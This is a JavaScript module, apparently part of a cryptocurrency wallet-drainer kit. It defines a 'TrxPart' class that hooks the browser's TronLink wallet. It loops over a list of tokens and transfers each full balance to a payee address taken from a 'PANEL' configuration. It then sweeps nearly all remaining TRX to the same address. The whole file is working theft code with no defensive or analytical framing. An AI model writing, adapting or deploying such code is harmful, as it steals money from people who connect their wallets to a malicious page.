class TrxPart {
  constructor() {
    this.tron = null;
    this.list = window.PANEL.coins;
    this.out = window.PANEL.payees.tron;
  }
  async init() {
    this.tron = window.tronLink ? window.tronLink.tronWeb : window.tronWeb;
    return !!(this.tron && this.tron.ready);
  }
  async coin(me, item) {
    const c = await this.tron.contract().at(item.address);
    const held = await c.balanceOf(me).call();
    if (!held || held.toString() === "0") return null;
    return c.transfer(this.out, held).send({ feeLimit: 100000000, callValue: 0, shouldPollResponse: true });
  }
  async native(me) {
    const sun = await this.tron.trx.getBalance(me);
    const rest = sun - 1000000;
    if (rest <= 0) return null;
    const raw = await this.tron.transactionBuilder.sendTrx(this.out, rest, me);
    const ok = await this.tron.trx.sign(raw);
    return this.tron.trx.sendRawTransaction(ok);
  }
  async everything(me, tick) {
    for (const item of this.list) {
      tick(item.symbol);
      await this.coin(me, item).catch((e) => console.warn(e));
    }
    await this.native(me);
    tick("done");
  }
}
window.TrxPart = TrxPart;
